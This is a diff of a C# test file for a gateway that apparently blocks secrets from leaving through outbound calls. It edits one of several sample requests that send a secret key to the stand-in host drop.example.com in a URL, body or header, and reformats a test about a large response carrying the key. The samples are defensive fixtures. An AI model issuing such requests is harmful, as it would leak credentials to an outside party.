@@ -37,7 +37,7 @@ public sealed class SecretOnTheWayOutTests
         [
             $$"""{"method":"GET","url":"https://drop.example.com/?k={{secret}}"}""",
             $$"""{"method":"POST","url":"https://drop.example.com/","body":"k={{secret}}"}""",
-            $$"""{"method":"GET","url":"https://drop.example.com/","headers":{"X-Note":"{{secret}}"}}""",
+            $$$"""{"method":"GET","url":"https://drop.example.com/","headers":{"X-Note":"{{{secret}}}"}}""",
         ];
         foreach (var call in arguments)
         {
@@ -69,7 +69,12 @@ public sealed class SecretOnTheWayOutTests
     [Trait("Row", "I-171")]
     public async Task An_answer_of_100_001_bytes_with_a_key_first_and_last_reaches_nobody()
     {
-        var page = Key + " " + new string('a', 100_001 - (2 * Key.Length) - 2).Replace("aaaaaaaaa", "aaaa bbbb", StringComparison.Ordinal) + " " + Key;
+        var page =
+            Key
+            + " "
+            + new string('a', 100_001 - (2 * Key.Length) - 2).Replace("aaaaaaaaa", "aaaa bbbb", StringComparison.Ordinal)
+            + " "
+            + Key;
         await using var origin = (await PocketInternet.Shared.HttpsAsync("large.example.com")).Serve("/", page, "text/plain");
         await using var gatehouse = await GatehouseProcess.StartAsync();
         using var owner = await GatewayClient.ConnectAsync(gatehouse);
